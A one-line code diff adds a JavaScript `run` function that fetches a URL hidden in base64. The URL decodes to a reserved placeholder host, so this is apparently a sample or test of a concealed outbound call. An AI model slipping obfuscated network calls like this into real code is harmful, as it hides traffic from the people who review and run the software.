@@ -1,0 +1,1 @@
+export const run = ({ api }) => api.fetch(atob('aHR0cHM6Ly9lLmludmFsaWQv'));
